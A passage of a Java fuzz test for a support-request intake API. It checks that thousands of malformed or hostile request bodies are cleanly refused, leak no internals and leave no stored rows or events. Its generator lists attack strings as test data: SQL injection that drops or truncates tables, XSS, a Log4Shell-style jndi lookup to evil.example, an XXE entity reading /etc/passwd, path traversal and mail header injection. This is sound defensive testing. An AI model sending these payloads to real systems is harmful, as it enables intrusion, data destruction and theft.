package io.slaplatform.intake;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.slaplatform.events.Countries;
import io.slaplatform.events.Impact;
import io.slaplatform.testkit.EventLog;
import io.slaplatform.testkit.ReceivedEvent;
import io.slaplatform.testkit.Sql;
import io.slaplatform.testkit.quarkus.KafkaTestResource;
import io.slaplatform.testkit.quarkus.PostgresSchemaTestResource;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Fuzzes {@code POST /requests} with a few thousand malformed and hostile bodies generated from a fixed seed
 * ({@code -Dfuzz.seed=...} to reproduce or vary, {@code -Dfuzz.cases=...} for the number of cases).
 *
 * <p>Every case carries what an explicit oracle (written here from the API's rules, not taken from the
 * production validator) expects: {@link Expect#INVALID} bodies must get a 4xx, {@link Expect#VALID} bodies a 201,
 * and {@link Expect#EITHER} bodies (where the rules leave room, e.g. a BOM or an unusual but maybe well-formed
 * e-mail address) either. No body may get a 5xx; every 4xx is a clean {@code application/problem+json}. At the
 * end, the only rows stored and the only {@code RequestSubmitted} events emitted are those of the 201s.
 */
@QuarkusTest
@WithTestResource(KafkaTestResource.class)
@WithTestResource(PostgresSchemaTestResource.class)
class RequestFuzzTest {

    private static final String PROBLEM_JSON = "application/problem+json";
    private static final List<String> LEAKS = List.of("java.", "javax.", "jakarta.", "org.", "com.fasterxml",
            "io.quarkus", "io.vertx", "io.slaplatform", "Exception", "exception", "\tat ", "SELECT", "INSERT",
            "UPDATE ", "ERROR:", "SQLState", "Hibernate", "Jackson", "PSQL");
    private static final List<String> FIELDS = List.of("licenseEmail", "contactEmail", "impact", "subject",
            "description", "country", "locale");
    private static final List<String> STRING_FIELDS = List.of("licenseEmail", "contactEmail", "subject",
            "description", "country", "locale");
    private static final Pattern LANGUAGE_TAG = Pattern.compile("[A-Za-z]{2,3}(-[A-Za-z0-9]{2,8})*");
    private static final ObjectMapper JSON = new ObjectMapper();

    @Inject
    AgroalDataSource dataSource;

    @TestHTTPResource("/requests")
    URL requestsUrl;

    private final EventLog events = KafkaTestResource.events();

    // ---------------------------------------------------------------------------------------------------------
    // The test

    @ParameterizedTest
    @ValueSource(strings = {"=?utf-8?q?x=40attacker.example?=@customer.example",
            "\"=?utf-8?q?x=40a?=\"@customer.example", "\"a b\"@customer.example", "x@[127.0.0.1]"})
    void anAddressTheMailerCannotDeliverIsRefusedNamingTheField(String address) {
        for (String field : List.of("contactEmail", "licenseEmail")) {
            Map<String, Object> body = IntakeTestSupport.validRequest();
            body.put(field, address);
            IntakeTestSupport.post(body)
                    .statusCode(400)
                    .contentType("application/problem+json")
                    .body("errors.field", org.hamcrest.Matchers.hasItem(field));
            assertThat(Sql.count(dataSource, "SELECT count(*) FROM support_request WHERE subject = ?",
                    body.get("subject"))).isZero();
        }
    }

    @Test
    void hostileBodiesAreCleanProblemsAndLeaveNoTrace() throws Exception {
        long seed = Long.getLong("fuzz.seed", 0x5EEDF00DL);
        int caseCount = Integer.getInteger("fuzz.cases", 3000);
        System.out.println("RequestFuzzTest: seed " + seed + " (reproduce with -Dfuzz.seed=" + seed + "), "
                + caseCount + " cases");

        Set<String> existingIds = ids("SELECT id::text FROM support_request");
        long requestsBefore = Sql.count(dataSource, "SELECT count(*) FROM support_request");
        long historyBefore = Sql.count(dataSource, "SELECT count(*) FROM request_history");
        int eventsBefore = events.all().size();

        Random random = new Random(seed);
        List<Case> cases = new ArrayList<>(caseCount);
        for (int i = 0; i < caseCount; i++) {
            cases.add(new Generator(random, seed, i).next());
        }

        HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(10)).build();
        URI uri = requestsUrl.toURI();
        String apiKey = IntakeTestSupport.formBackendKey(); // rate far above the fuzz run's
        Map<String, Integer> kinds = new TreeMap<>();
        Map<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();
        Map<Expect, Integer> expectations = new TreeMap<>();
        List<String> failures = java.util.Collections.synchronizedList(new ArrayList<>());
        Set<String> created = ConcurrentHashMap.newKeySet();
        for (Case c : cases) {
            kinds.merge(c.kind, 1, Integer::sum);
            expectations.merge(c.expect, 1, Integer::sum);
        }

        long started = System.nanoTime();
        ExecutorService pool = Executors.newFixedThreadPool(4);
        try {
            List<Future<?>> running = new ArrayList<>();
            for (int i = 0; i < cases.size(); i++) {
                int index = i;
                Case c = cases.get(i);
                running.add(pool.submit(() -> {
                    try {
                        check(index, c, send(http, uri, apiKey, c), statuses, created, failures);
                    } catch (Exception e) {
                        failures.add(describe(index, c) + ": request failed: " + e);
                    }
                }));
            }
            for (Future<?> f : running) {
                f.get();
            }
        } finally {
            pool.shutdownNow();
        }
        long sendMillis = (System.nanoTime() - started) / 1_000_000;

        // Rows: exactly the 201s are stored, nothing for any rejected body.
        assertThat(Sql.count(dataSource, "SELECT count(*) FROM support_request"))
                .as("support_request rows after the fuzz run (201s: %s)", created.size())
                .isEqualTo(requestsBefore + created.size());
        assertThat(Sql.count(dataSource, "SELECT count(*) FROM request_history"))
                .as("request_history rows after the fuzz run (one SUBMITTED entry per 201)")
                .isEqualTo(historyBefore + created.size());
        Set<String> newIds = ids("SELECT id::text FROM support_request");
        newIds.removeAll(existingIds);
        assertThat(newIds).as("requests stored by the fuzz run").isEqualTo(created);

        // Events: one settle period for the whole run, then only the 201s have a RequestSubmitted.
        long settleStarted = System.nanoTime();
        long deadline = System.currentTimeMillis() + 20_000;
        while (System.currentTimeMillis() < deadline && !submittedKeys(eventsBefore, existingIds)
                .containsAll(created)) {
            Thread.sleep(100);
        }
        events.settle("-", "-", Duration.ofSeconds(2));
        Set<String> submitted = submittedKeys(eventsBefore, existingIds);
        long settleMillis = (System.nanoTime() - settleStarted) / 1_000_000;
        assertThat(Sql.count(dataSource, "SELECT count(*) FROM outbox_event WHERE event_type = 'RequestSubmitted'"
                + " AND record_key <> ALL (?::text[])", (Object) created.toArray(String[]::new)))
                .as("outbox rows for bodies that were not accepted").isZero();
        assertThat(submitted).as("RequestSubmitted events of the fuzz run: those of the 201s only")
                .isEqualTo(created);

        cleanUp(created);

        String statusSummary = new TreeMap<>(statuses).entrySet().stream()
                .map(e -> e.getKey() + "=" + e.getValue().get()).collect(Collectors.joining(", ", "{", "}"));
        System.out.println("RequestFuzzTest summary: seed=" + seed + " cases=" + cases.size()
                + " sent in " + sendMillis + " ms, settle " + settleMillis + " ms; statuses " + statusSummary
                + "; expected " + expectations + "; created (cleaned) " + created.size()
                + "; failures " + failures.size() + "; kinds " + kinds);
        java.nio.file.Files.write(java.nio.file.Path.of("target", "fuzz-failures.txt"), failures);
        assertThat(failures).as("fuzz failures (seed %s), first 25 shown:%n%s", seed,
                        failures.stream().limit(25).collect(Collectors.joining("\n")))
                .isEmpty();
    }

    private static HttpResponse<String> send(HttpClient http, URI uri, String apiKey, Case c) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(uri).timeout(Duration.ofSeconds(30))
                .header(IntakeTestSupport.API_KEY, apiKey)
                .header("Accept", "application/json, application/problem+json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(c.body));
        if (c.contentType != null) {
            request.header("Content-Type", c.contentType);
        }
        if (c.idempotencyKey != null) {
            request.header("Idempotency-Key", c.idempotencyKey);
        }
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }

    private static void check(int index, Case c, HttpResponse<String> response, Map<Integer, AtomicInteger> statuses,
                              Set<String> created, List<String> failures) {
        int status = response.statusCode();
        statuses.computeIfAbsent(status, s -> new AtomicInteger()).incrementAndGet();
        String body = response.body();
        String contentType = response.headers().firstValue("Content-Type").orElse("");
        String where = describe(index, c) + " -> " + status + " " + abbreviate(body, 300);
        if (status == 201) {
            String id = idOf(body);
            if (id != null) {
                created.add(id);
            }
            if (c.expect == Expect.INVALID) {
                failures.add(where + ": invalid body was accepted");
            }
            if (id == null || !body.contains("\"status\":\"SUBMITTED\"")) {
                failures.add(where + ": 201 without an id or not SUBMITTED");
            }
            return;
        }
        if (status >= 500) {
            failures.add(where + ": server error");
        } else if (status < 400 || status > 499) {
            failures.add(where + ": neither 201 nor 4xx");
        } else if (c.expect == Expect.VALID) {
            failures.add(where + ": valid body was rejected");
        }
        if (status >= 400) {
            if (!contentType.startsWith(PROBLEM_JSON)) {
                failures.add(where + ": content type " + contentType + ", not " + PROBLEM_JSON);
            }
            for (String leak : LEAKS) {
                if (body.contains(leak)) {
                    failures.add(where + ": problem leaks '" + leak + "'");
                }
            }
            try {
                JsonNode problem = JSON.readTree(body);
                if (problem.path("status").asInt() != status || !problem.path("type").isTextual()
                        || !problem.path("title").isTextual()) {
                    failures.add(where + ": not a problem document for this status");
                }
            } catch (Exception e) {
                failures.add(where + ": problem body is not JSON");
            }
        }
    }

    private static String idOf(String body) {
        try {
            JsonNode id = JSON.readTree(body).path("id");
            return id.isTextual() ? id.asText() : null;
        } catch (Exception e) {
            return null;
        }
    }

    private Set<String> submittedKeys(int eventsBefore, Set<String> existingIds) {
        List<ReceivedEvent> all = events.all();
        return all.subList(Math.min(eventsBefore, all.size()), all.size()).stream()
                .filter(e -> "RequestSubmitted".equals(e.type()))
                .map(ReceivedEvent::key)
                .filter(key -> !existingIds.contains(key)) // a late relay of an earlier test's request
                .collect(Collectors.toSet());
    }

    private Set<String> ids(String sql) throws SQLException {
        Set<String> ids = new HashSet<>();
        try (Connection c = dataSource.getConnection(); PreparedStatement s = c.prepareStatement(sql);
             ResultSet r = s.executeQuery()) {
            while (r.next()) {
                ids.add(r.getString(1));
            }
        }
        return ids;
    }

    /** Removes the requests the fuzz run created (bodies the oracle could not rule out), so later tests see none. */
    private void cleanUp(Set<String> created) {
        if (created.isEmpty()) {
            return;
        }
        Object ids = created.toArray(String[]::new);
        Sql.update(dataSource, "DELETE FROM request_history WHERE request_id::text = ANY (?::text[])", ids);
        Sql.update(dataSource, "DELETE FROM outbox_event WHERE record_key = ANY (?::text[])", ids);
        Sql.update(dataSource, "DELETE FROM support_request WHERE id::text = ANY (?::text[])", ids);
    }

    private static String describe(int index, Case c) {
        return "#" + index + " " + c.kind + "/" + c.expect + " [" + c.note + "]"
                + (c.contentType == null ? " (no content type)" : " (" + c.contentType + ")")
                + " body " + abbreviate(printable(c.body), 240);
    }

    private static String printable(byte[] bytes) {
        StringBuilder out = new StringBuilder();
        for (byte b : bytes) {
            int v = b & 0xFF;
            if (v >= 0x20 && v < 0x7F) {
                out.append((char) v);
            } else {
                out.append(String.format("\\x%02X", v));
            }
            if (out.length() > 2000) {
                break;
            }
        }
        return out.toString();
    }

    private static String abbreviate(String s, int max) {
        return s.length() <= max ? s : s.substring(0, max) + "...(" + s.length() + " chars)";
    }

    // ---------------------------------------------------------------------------------------------------------
    // Cases and the oracle

    enum Expect { INVALID, EITHER, VALID }

    record Case(String kind, String note, byte[] body, String contentType, String idempotencyKey, Expect expect) {
    }

    /** JSON null, distinct from a missing field. */
    enum JNull { NULL }

    /** JSON text written as is (numbers out of range, deep nesting). */
    record Raw(String json, int depth) {
    }

    /** A JSON object as a list of entries, so a key may appear twice. */
    static final class Obj {
        final List<Map.Entry<String, Object>> entries = new ArrayList<>();

        Obj put(String key, Object value) {
            for (int i = 0; i < entries.size(); i++) {
                if (entries.get(i).getKey().equals(key)) {
                    entries.set(i, new java.util.AbstractMap.SimpleEntry<>(key, value));
                    return this;
                }
            }
            entries.add(new java.util.AbstractMap.SimpleEntry<>(key, value));
            return this;
        }

        Obj add(String key, Object value) {
            entries.add(new java.util.AbstractMap.SimpleEntry<>(key, value));
            return this;
        }

        void remove(String key) {
            entries.removeIf(e -> e.getKey().equals(key));
        }

        Object get(String key) {
            return entries.stream().filter(e -> e.getKey().equals(key)).map(Map.Entry::getValue).findFirst()
                    .orElse(null);
        }

        boolean hasDuplicates() {
            return entries.stream().map(Map.Entry::getKey).distinct().count() != entries.size();
        }

        /** The value of {@code key}, the first or the last one if it appears more than once; null when absent. */
        Object value(String key, boolean firstWins) {
            Object found = null;
            for (Map.Entry<String, Object> e : entries) {
                if (e.getKey().equals(key)) {
                    found = e.getValue() == null ? JNull.NULL : e.getValue();
                    if (firstWins) {
                        return found;
                    }
                }
            }
            return found;
        }
    }

    /** The explicit oracle: what the API's rules say about a body that is a JSON object. */
    static Expect oracle(Obj body) {
        Expect first = oracle(body, true);
        if (!body.hasDuplicates()) {
            return first;
        }
        // A key given twice is ambiguous (which value counts?): such a body is refused, whatever its values.
        return Expect.INVALID;
    }

    private static Expect oracle(Obj body, boolean firstWins) {
        Expect verdict = Expect.VALID;
        for (String field : FIELDS) {
            verdict = min(verdict, field(field, body.value(field, firstWins)));
        }
        for (Map.Entry<String, Object> e : body.entries) {
            if (FIELDS.contains(e.getKey())) {
                continue;
            }
            // Unknown fields are ignored, but not beyond the parser's limits.
            if (e.getKey().length() > 40_000) {
                verdict = min(verdict, Expect.EITHER);
            }
            if (e.getValue() instanceof Raw raw && raw.depth() > 900) {
                verdict = min(verdict, raw.depth() > 1100 ? Expect.INVALID : Expect.EITHER);
            }
        }
        return verdict;
    }

    private static Expect field(String field, Object value) {
        if (value == null || value == JNull.NULL) {
            return "locale".equals(field) ? Expect.VALID : Expect.INVALID; // only the locale is optional
        }
        if (!(value instanceof String s)) {
            return Expect.INVALID; // numbers, booleans, arrays, objects are never text or an impact
        }
        if ("impact".equals(field)) {
            return Arrays.stream(Impact.values()).anyMatch(i -> i.name().equals(s)) ? Expect.VALID
                    // the parser may forgive surrounding blanks: the stored value is still exactly that impact
                    : Arrays.stream(Impact.values()).anyMatch(i -> i.name().equals(s.trim())) ? Expect.EITHER
                    : Expect.INVALID;
        }
        if (s.indexOf('\0') >= 0 || hasLoneSurrogate(s)) {
            return Expect.INVALID; // not text: PostgreSQL cannot store NUL, a lone surrogate is no character
        }
        return switch (field) {
            case "licenseEmail", "contactEmail" -> email(s);
            case "subject" -> min(blank(s), s.length() > 200 || s.chars().anyMatch(c -> c < 0x20 || c == 0x7F)
                    ? Expect.INVALID
                    : s.chars().anyMatch(c -> c >= 0x80 && c <= 0x9F || c == 0x2028 || c == 0x2029)
                    ? Expect.EITHER : Expect.VALID);
            case "description" -> s.length() > 20_000 ? Expect.INVALID : blank(s);
            case "country" -> Countries.isAlpha2(s) ? Expect.VALID : Expect.INVALID;
            case "locale" -> s.length() <= 35 && LANGUAGE_TAG.matcher(s).matches() ? Expect.VALID : Expect.INVALID;
            default -> throw new IllegalArgumentException(field);
        };
    }

    static final List<String> VALID_EMAILS = List.of("ops@customer.example", "a@b.example",
            "first.last+tag@sub.customer.example", "o'brien@customer.example", "user@xn--bcher-kva.example",
            "UPPER@CUSTOMER.EXAMPLE", "x_y-z@customer-site.example", "jörg@müller.example",
            "1234567890@numbers.example", "l".repeat(64) + "@customer.example");
    static final List<String> INVALID_EMAILS = List.of("", " ", "plainaddress", "@customer.example",
            "ops@", "ops@@customer.example", "ops customer@example.com", "ops@customer example.com",
            "ops@customer..example", ".ops@customer.example", "ops.@customer.example", "o..ps@customer.example",
            "Jane <jane@customer.example>", "<jane@customer.example>", "jane@customer.example>",
            "jane@customer.example,ops@customer.example", "jane@customer.example; ops@customer.example",
            "jane@customer.example\r\nBcc: all@evil.example", "jane@customer.example\nCc: x@evil.example",
            "jane\0@customer.example", "jane@customer.example\0", "l".repeat(65) + "@customer.example",
            "a".repeat(250) + "@x.ch", "ops@" + "d".repeat(260) + ".example", "ops@customer.example\t",
            "\"unterminated@customer.example", "ops@[999.1.1.1", "mailto:ops@customer.example ",
            // accepted by @Email, but no mailer delivers them as typed: the outside probe's findings
            "=?utf-8?q?x=40attacker.example?=@customer.example", "\"=?utf-8?q?x=40attacker.example?=\"@customer.example",
            "\"a b\"@customer.example", "x@[127.0.0.1]", "\"jane\"@customer.example", "jane(comment)@customer.example");

    /** INVALID when blank by any reading, EITHER when only "trim" or only "whitespace" calls it blank. */
    private static Expect blank(String s) {
        boolean trimmed = s.trim().isEmpty();
        boolean whitespace = s.chars().allMatch(Character::isWhitespace);
        return trimmed && whitespace ? Expect.INVALID : trimmed || whitespace ? Expect.EITHER : Expect.VALID;
    }

    private static Expect email(String s) {
        if (s.trim().isEmpty() || s.length() > 254 || s.indexOf('@') < 0
                || s.chars().anyMatch(c -> c < 0x20 || c == 0x7F)
                || s.contains(" ") || s.contains("\"") || s.contains("=?") || s.contains("[")) {
            return Expect.INVALID;
        }
        if (INVALID_EMAILS.contains(s)) {
            return Expect.INVALID;
        }
        return VALID_EMAILS.contains(s) ? Expect.VALID : Expect.EITHER;
    }

    private static boolean hasLoneSurrogate(String s) {
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (Character.isHighSurrogate(c)) {
                if (i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
                    i++;
                } else {
                    return true;
                }
            } else if (Character.isLowSurrogate(c)) {
                return true;
            }
        }
        return false;
    }

    private static Expect min(Expect a, Expect b) {
        return a.compareTo(b) <= 0 ? a : b;
    }

    // ---------------------------------------------------------------------------------------------------------
    // JSON writing: exact control over escapes, duplicates and raw text

    static String write(Object value) {
        StringBuilder out = new StringBuilder();
        write(out, value);
        return out.toString();
    }

    private static void write(StringBuilder out, Object value) {
        if (value == null || value == JNull.NULL) {
            out.append("null");
        } else if (value instanceof String s) {
            writeString(out, s);
        } else if (value instanceof Boolean || value instanceof Number) {
            out.append(value);
        } else if (value instanceof Raw raw) {
            out.append(raw.json());
        } else if (value instanceof List<?> list) {
            out.append('[');
            for (int i = 0; i < list.size(); i++) {
                if (i > 0) {
                    out.append(',');
                }
                write(out, list.get(i));
            }
            out.append(']');
        } else if (value instanceof Obj obj) {
            out.append('{');
            for (int i = 0; i < obj.entries.size(); i++) {
                if (i > 0) {
                    out.append(',');
                }
                writeString(out, obj.entries.get(i).getKey());
                out.append(':');
                write(out, obj.entries.get(i).getValue());
            }
            out.append('}');
        } else {
            throw new IllegalArgumentException(value.getClass().getName());
        }
    }

    /** Escapes what JSON requires; a lone surrogate is written as a {@code \}{@code u} escape (JSON allows it). */
    private static void writeString(StringBuilder out, String s) {
        out.append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || c == 0x7F) {
                out.append(String.format("\\u%04x", (int) c));
            } else if (Character.isHighSurrogate(c) && i + 1 < s.length() && Character.isLowSurrogate(s.charAt(i + 1))) {
                out.append(c).append(s.charAt(++i));
            } else if (Character.isSurrogate(c)) {
                out.append(String.format("\\u%04X", (int) c));
            } else {
                out.append(c);
            }
        }
        out.append('"');
    }

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    // ---------------------------------------------------------------------------------------------------------
    // The generator

    static final class Generator {
        private final Random r;
        private final String marker;

        Generator(Random r, long seed, int index) {
            this.r = r;
            this.marker = "fuzz " + Long.toHexString(seed) + "-" + index;
        }

        Obj valid() {
            return new Obj()
                    .put("licenseEmail", "ops@customer.example")
                    .put("contactEmail", "jane.doe@customer.example")
                    .put("impact", pick(Impact.values()).name())
                    .put("subject", "Processing stalls at 80% " + marker)
                    .put("description", "Since this morning every project stops at the densification step.")
                    .put("country", pick(List.of("CH", "US", "DE", "JP", "BR")))
                    .put("locale", pick(List.of("de-CH", "en", "es-419", "fr")));
        }

        <T> T pick(List<T> list) {
            return list.get(r.nextInt(list.size()));
        }

        <T> T pick(T[] array) {
            return array[r.nextInt(array.length)];
        }

        private static final List<Kind> KINDS = List.of(Kind.values());

        Case next() {
            Kind kind = pick(KINDS);
            return kind.generate.apply(this);
        }

        Case structured(String kind, String note, Obj body) {
            return new Case(kind, note, utf8(write(body)), "application/json", null, oracle(body));
        }

        Case labelled(String kind, String note, byte[] body, String contentType, Expect expect) {
            return new Case(kind, note, body, contentType, null, expect);
        }

        String field() {
            return pick(FIELDS);
        }

        String stringField() {
            return pick(STRING_FIELDS);
        }

        /** Puts {@code payload} into the field's valid value: replacing it, before it, after it or inside it. */
        Object inject(Obj body, String field, String payload) {
            String original = body.get(field) instanceof String s ? s : "";
            int at = r.nextInt(original.length() + 1);
            return switch (r.nextInt(4)) {
                case 0 -> payload;
                case 1 -> payload + original;
                case 2 -> original + payload;
                default -> original.substring(0, at) + payload + original.substring(at);
            };
        }

        Case payloadCase(String kind, List<String> payloads) {
            Obj body = valid();
            String field = stringField();
            String payload = pick(payloads);
            body.put(field, inject(body, field, payload));
            return structured(kind, field, body);
        }

        Object otherType() {
            return switch (r.nextInt(9)) {
                case 0 -> r.nextInt();
                case 1 -> r.nextBoolean();
                case 2 -> new BigDecimal(r.nextGaussian() * 1000).setScale(3, java.math.RoundingMode.HALF_UP);
                case 3 -> List.of();
                case 4 -> List.of("ops@customer.example");
                case 5 -> new Obj();
                case 6 -> new Obj().put("value", "MAJOR");
                case 7 -> List.of(JNull.NULL);
                default -> new Raw("[[\"x\"]]", 2);
            };
        }

        String hugeString(int length) {
            char[] chars = new char[length];
            String alphabet = pick(List.of("abcdefghij ", "x", "ü€ 漢", "\u00A0a"));
            for (int i = 0; i < length; i++) {
                chars[i] = alphabet.charAt(i % alphabet.length());
            }
            return new String(chars);
        }

        Raw nested(int depth, boolean arrays) {
            StringBuilder out = new StringBuilder(depth * 6 + 4);
            for (int i = 0; i < depth; i++) {
                out.append(arrays ? "[" : "{\"a\":");
            }
            out.append("1");
            for (int i = 0; i < depth; i++) {
                out.append(arrays ? "]" : "}");
            }
            return new Raw(out.toString(), depth + 1);
        }

        /** The valid body with {@code bad} bytes inside the value of a string field. */
        byte[] withRawBytes(String field, byte[] bad) {
            Obj body = valid();
            String mark = "@@RAW@@";
            body.put(field, inject(body, field, mark));
            String text = write(body);
            int at = text.indexOf(mark);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(utf8(text.substring(0, at)));
            out.writeBytes(bad);
            out.writeBytes(utf8(text.substring(at + mark.length())));
            return out.toByteArray();
        }
    }

    static final List<String> HEADER_INJECTION = List.of("\r\nBcc: everyone@evil.example",
            "\nSubject: you won", "\r\n\r\n<html>spoofed</html>", "%0d%0aBcc:%20x@evil.example",
            "\rX-Injected: 1", "\u0085Bcc: nel@evil.example", "\u2028Bcc: ls@evil.example",
            "\r\nContent-Type: text/html", "\nSet-Cookie: session=stolen", "\r\n.\r\nMAIL FROM:<x@evil.example>");
    static final List<String> SQL = List.of("' OR '1'='1", "'; DROP TABLE support_request; --",
            "\"; DELETE FROM outbox_event; --", "1) UNION SELECT version()--", "'||pg_sleep(3)||'",
            "$$; TRUNCATE request_history; $$", "\\'; --", "%' AND 1=1 --", "admin'--@customer.example",
            "CH' OR 'x'='x", "E'\\x00'", "'); INSERT INTO support_request DEFAULT VALUES; --");
    static final List<String> SCRIPT = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "javascript:alert(document.cookie)", "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}",
            "%s%s%s%n%x", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
            "../../../../etc/passwd", "\u202Egnp.exe", "<svg/onload=alert(1)>", "@class", "{\"@type\":\"x\"}");
    static final List<String> CONTROL = List.of("\u0000", "\u0001", "\u0007", "\b", "\t", "\n", "\u000B", "\f",
            "\r", "\u001B[31m", "\u001F", "\u007F", "\u0085", "\u2028", "\u2029", "\uFEFF", "\u200B", "\u00A0");
    static final List<String> SURROGATES = List.of("\uD800", "\uDBFF", "\uDC00", "\uDFFF", "\uDE00\uD83D",
            "x\uD83D", "\uD83D\uDE00\uD83D");

    enum Kind {
        DROP_FIELD(g -> {
            Obj body = g.valid();
            String field = g.field();
            body.remove(field);
            return g.structured("drop", field, body);
        }),
        NULL_FIELD(g -> {
            Obj body = g.valid();
            String field = g.field();
            body.put(field, JNull.NULL);
            return g.structured("null", field, body);
        }),
        EMPTY_OR_BLANK(g -> {
            Obj body = g.valid();
            String field = g.field();
            body.put(field, g.pick(List.of("", " ", "   ", "\t", "\n", "\r\n", " \u00A0 ", "\u3000")));
            return g.structured("empty", field, body);
        }),
        RETYPE_FIELD(g -> {
            Obj body = g.valid();
            String field = g.field();
            body.put(field, g.otherType());
            return g.structured("retype", field, body);
        }),
        DUPLICATE_FIELD(g -> {
            Obj body = g.valid();
            String field = g.field();
            Object second = switch (g.r.nextInt(3)) {
                case 0 -> body.get(field);
                case 1 -> JNull.NULL;
                default -> g.pick(List.of("", "URGENT", "XX", "not an address", "x".repeat(300)));
            };
            body.add(field, second);
            if (g.r.nextBoolean()) {
                body.entries.add(0, body.entries.remove(body.entries.size() - 1));
            }
            return g.structured("duplicate", field, body);
        }),
        HUGE_STRING(g -> {
            Obj body = g.valid();
            String field = g.r.nextInt(5) == 0 ? "notes" : g.stringField();
            int length = g.pick(List.of(201, 255, 20_001, 65_536, 300_000, g.r.nextBoolean() ? 2_000_000 : 100_000));
            body.put(field, g.hugeString(length));
            return g.structured("huge", field + " " + length, body);
        }),
        DEEP_NESTING(g -> {
            Obj body = g.valid();
            String field = g.r.nextBoolean() ? "extra" : g.field();
            int depth = g.pick(List.of(10, 100, 500, 999, 2_000, 10_000, 100_000));
            body.put(field, g.nested(depth, g.r.nextBoolean()));
            return g.structured("deep", field + " " + depth, body);
        }),
        ARRAY_FOR_OBJECT(g -> {
            Obj body = g.valid();
            String json = switch (g.r.nextInt(4)) {
                case 0 -> "[" + write(body) + "]";
                case 1 -> "[" + write(body) + "," + write(g.valid()) + "]";
                case 2 -> "[]";
                default -> "[[" + write(body) + "]]";
            };
            return g.labelled("array", "root", utf8(json), "application/json", Expect.INVALID);
        }),
        NUMBER_OUT_OF_RANGE(g -> {
            Obj body = g.valid();
            String field = g.field();
            body.put(field, new Raw(g.pick(List.of("1e309", "-1e309", "9223372036854775808", "1e-400",
                    "-0", "0.0000000000000000000000001", new BigInteger(4000, g.r).toString(),
                    "1" + "0".repeat(1500) + ".5", "-2147483649")), 1));
            return g.structured("number", field, body);
        }),
        INVALID_UTF8(g -> {
            byte[][] bad = {{(byte) 0xFF}, {(byte) 0xFE, (byte) 0xFF}, {(byte) 0xC3}, {(byte) 0x80},
                    {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xC0, (byte) 0x80}, {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
                    {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xED, (byte) 0xBF, (byte) 0xBF},
                    {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
                    {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                    {(byte) 0xE2, (byte) 0x82}, {(byte) 0xF0, (byte) 0x9F, (byte) 0x98}};
            int which = g.r.nextInt(bad.length);
            String field = g.stringField();
            return g.labelled("utf8", field + " " + HexFormatHolder.hex(bad[which]),
                    g.withRawBytes(field, bad[which]), "application/json", Expect.INVALID);
        }),
        LONE_SURROGATE(g -> g.payloadCase("surrogate", SURROGATES)),
        CONTROL_CHAR(g -> g.payloadCase("control", CONTROL)),
        RAW_CONTROL_BYTE(g -> {
            String field = g.stringField();
            byte b = g.pick(List.of(0x00, 0x01, 0x08, 0x09, 0x0A, 0x0D, 0x1B, 0x1F)).byteValue();
            return g.labelled("rawcontrol", field + " " + b, g.withRawBytes(field, new byte[] {b}),
                    "application/json", Expect.INVALID);
        }),
        HEADER_INJECTION_PAYLOAD(g -> g.payloadCase("header-injection", HEADER_INJECTION)),
        SQL_PAYLOAD(g -> g.payloadCase("sql", SQL)),
        SCRIPT_PAYLOAD(g -> g.payloadCase("script", SCRIPT)),
        UNKNOWN_ENUM(g -> {
            Obj body = g.valid();
            body.put("impact", g.pick(List.of("URGENT", "BLOCKER", "major", "Major", "MAJOR ", " MAJOR",
                    "MAJOR\u0000", "0", "3", "-1", "LIMITED,MAJOR", "MAJ\u200BOR", "ＭＡＪＯＲ", "null", "PENDING")));
            return g.structured("enum", "impact", body);
        }),
        WRONG_CASE(g -> {
            Obj body = g.valid();
            switch (g.r.nextInt(3)) {
                case 0 -> {
                    String field = g.field();
                    Object value = body.get(field);
                    body.remove(field);
                    body.put(g.r.nextBoolean() ? field.toUpperCase() : field.substring(0, 1).toUpperCase()
                            + field.substring(1), value);
                    return g.structured("case", "key " + field, body);
                }
                case 1 -> {
                    body.put("impact", ((String) body.get("impact")).toLowerCase());
                    return g.structured("case", "impact", body);
                }
                default -> {
                    body.put("country", g.pick(List.of("ch", "Ch", "cH", "us")));
                    return g.structured("case", "country", body);
                }
            }
